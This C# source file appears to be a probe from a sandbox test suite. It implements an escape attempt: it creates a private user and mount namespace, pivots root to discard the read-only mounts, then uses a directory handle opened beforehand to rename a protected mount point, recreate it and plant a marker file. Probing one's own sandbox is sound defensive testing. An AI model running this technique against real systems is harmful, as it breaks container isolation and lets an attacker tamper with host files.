using Sandbox.Executor.Kernel;

namespace Sandbox.Probe.Attempts;

/// <summary>
/// <c>strip DIR NAME</c>: with a user namespace of one's own the whole tree, and every read-only mount with it, is put aside. A directory opened before leads
/// back to the host's files, and what is a mount point elsewhere can be renamed away and made anew.
/// </summary>
internal static unsafe class Strip
{
    private const int O_PATH_DIRECTORY = C.O_PATH | C.O_DIRECTORY | C.O_CLOEXEC;

    public static long Run(byte* directory, byte* name)
    {
        long project = Sys.Openat(C.AT_FDCWD, directory, O_PATH_DIRECTORY);
        if (project < 0)
        {
            return project;
        }

        long uid = Sys.Call(Nr.getuid);
        long gid = Sys.Call(Nr.getgid);
        long made = Sys.Call(Nr.unshare, C.CLONE_NEWUSER | C.CLONE_NEWNS);
        if (made < 0)
        {
            return made;
        }

        // uid 0 without CAP_SETFCAP may not map itself; the attack works without a map too, since the files belong to the same uid.
        Map(Text.Z("/proc/self/uid_map\0"u8), uid);
        Files.Write(C.AT_FDCWD, Text.Z("/proc/self/setgroups\0"u8), Text.Z("deny\0"u8), 0);
        Map(Text.Z("/proc/self/gid_map\0"u8), gid);
        long root = PutAside();
        return root < 0 ? root : Replace(project, name);
    }

    private static long PutAside()
    {
        long result = Sys.Call(Nr.mount, 0, (long)Text.Z("/\0"u8), 0, (long)(C.MS_REC | C.MS_PRIVATE), 0);
        result = result < 0 ? result : Sys.Call(Nr.mount, (long)Text.Z("none\0"u8), (long)Text.Z("/usr\0"u8), (long)Text.Z("tmpfs\0"u8), 0, 0);
        result = result < 0 ? result : Sys.Call(Nr.chdir, (long)Text.Z("/usr\0"u8));
        result = result < 0 ? result : Sys.Call(Nr.pivot_root, (long)Text.Z(".\0"u8), (long)Text.Z(".\0"u8));
        return result < 0 ? result : Sys.Call(Nr.umount2, (long)Text.Z(".\0"u8), C.MNT_DETACH);
    }

    private static long Replace(long project, byte* name)
    {
        long result = Sys.Call(ProbeNr.renameat, project, (long)name, project, (long)Text.Z("aside\0"u8));
        result = result < 0 ? result : Sys.Call(Nr.mkdirat, project, (long)name, 0x1ed);
        long inner = result < 0 ? result : Sys.Openat(project, name, O_PATH_DIRECTORY);
        return inner < 0 ? inner : Files.Write(inner, Text.Z("planted\0"u8), Text.Z("PWN\0"u8), C.O_CREAT);
    }

    private static void Map(byte* file, long id)
    {
        byte* line = stackalloc byte[64];
        int n = Text.Copy(line, Text.Z("0 \0"u8));
        n += Text.Number(line + n, (ulong)id);
        n += Text.Copy(line + n, Text.Z(" 1\0"u8));
        line[n] = 0;
        Files.Write(C.AT_FDCWD, file, line, 0);
    }
}
